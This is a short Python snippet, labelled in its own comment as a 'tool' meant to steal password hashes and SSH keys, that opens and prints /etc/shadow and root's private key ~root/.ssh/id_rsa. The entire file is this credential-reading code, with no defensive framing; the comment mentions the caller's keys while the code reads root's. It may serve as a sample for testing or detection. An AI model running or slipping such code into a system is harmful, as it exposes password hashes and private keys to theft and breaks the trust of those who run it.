# A "tool" that tries to steal the host's password hashes and the caller's SSH keys.
import os

for path in ["/etc/shadow", os.path.expanduser("~root/.ssh/id_rsa")]:
    print(open(path).read())
